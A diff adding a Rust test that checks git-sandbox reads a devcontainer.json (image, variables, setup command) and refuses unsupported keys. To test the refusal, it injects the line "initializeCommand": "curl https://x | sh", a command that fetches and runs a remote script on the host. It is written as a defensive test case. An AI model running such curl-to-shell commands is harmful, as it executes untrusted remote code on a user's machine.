@@ -569,3 +569,89 @@ fn a_build_cache_made_in_an_image_is_that_images_own() {
         "the host's run does not read the image's cache: {on_host}"
     );
 }
+
+/// A repository's devcontainer.json (JSONC) names the image, its variables and its create
+/// commands; `init` proposes it; what cannot be honoured is refused by its key.
+#[test]
+fn a_devcontainer_json_gives_the_image_its_variables_and_the_setup_and_init_proposes_it() {
+    let w = World::new();
+    let registry = Registry::start();
+    let host = registry.host();
+    let digest = registry.push("test/dev", "1", &image("one"));
+    w.user_config(&format!(
+        "[environment]\ninsecure_registries = [\"{host}\"]\n"
+    ));
+    let devcontainer = format!(
+        r#"// The project's container, as an editor opens it.
+{{
+  "name": "project",
+  "image": "{host}/test/dev:1", /* busybox, for the test */
+  "containerEnv": {{
+    "APP_MODE": "test",
+    "IMAGE_VAR": "overridden",
+  }},
+  "remoteUser": "vscode",
+  "postCreateCommand": ["sh", "-c", "mkdir -p deps && echo made > deps/made"],
+  "customizations": {{ "vscode": {{ "extensions": ["ms-python.python"] }} }},
+}}
+"#
+    );
+    let command = "test \\\"$APP_MODE\\\" = test && test \\\"$IMAGE_VAR\\\" = overridden && cat deps/made /etc/version";
+    // Adopted by `init` from the work tree, in a plain repository.
+    let repo = w.work().join("devcontainer");
+    std::fs::create_dir_all(&repo).unwrap();
+    w.git(&repo, &["init", "-q", "-b", "main"]);
+    w.commit(
+        &repo,
+        &[
+            (".devcontainer/devcontainer.json", &devcontainer),
+            (
+                "Makefile",
+                &format!("test:\n\t{}\n", command.replace("\\\"", "\"")),
+            ),
+        ],
+        "a project with a devcontainer",
+    );
+    assert_eq!(w.sandbox(&repo, &["init"]).code, 0);
+    let adopted = w.sandbox(&repo, &["config", "--adopted"]).success().stdout;
+    assert!(
+        adopted.contains("devcontainer = \".devcontainer/devcontainer.json\""),
+        "{adopted}"
+    );
+    // The commit's own config names it and the command.
+    w.commit(
+        &repo,
+        &[(
+            ".sandbox.toml",
+            &format!("[environment]\ndevcontainer = \".devcontainer/devcontainer.json\"\n[test]\ncommand = \"{command}\"\n[analysis]\nenabled = false\n"),
+        )],
+        "the config",
+    );
+    let rec = run("devcontainer", &w, &repo);
+    assert_eq!(rec["environment"]["digest"], digest.as_str(), "{rec}");
+    assert_eq!(rec["environment"]["user"], "vscode");
+    assert_eq!(rec["tests"]["setup"]["how"], "built", "{rec}");
+    let out = rec["tests"]["output_tail"].as_str().unwrap();
+    assert!(out.contains("made") && out.contains("one"), "{out}");
+
+    // A devcontainer that asks for what git-sandbox cannot honour: an error naming the key.
+    w.commit(
+        &repo,
+        &[(
+            ".devcontainer/devcontainer.json",
+            &devcontainer.replace(
+                "\"remoteUser\"",
+                "\"initializeCommand\": \"curl https://x | sh\",\n  \"remoteUser\"",
+            ),
+        )],
+        "runs something on the host",
+    );
+    let o = w.sandbox(&repo, &["run", "--json"]);
+    let rec = o.json()[0].clone();
+    assert_eq!(rec["status"], "error", "{o:?}");
+    let error = rec["error"].as_str().unwrap();
+    assert!(
+        error.contains("devcontainer.json") && error.contains("initializeCommand"),
+        "{error}"
+    );
+}
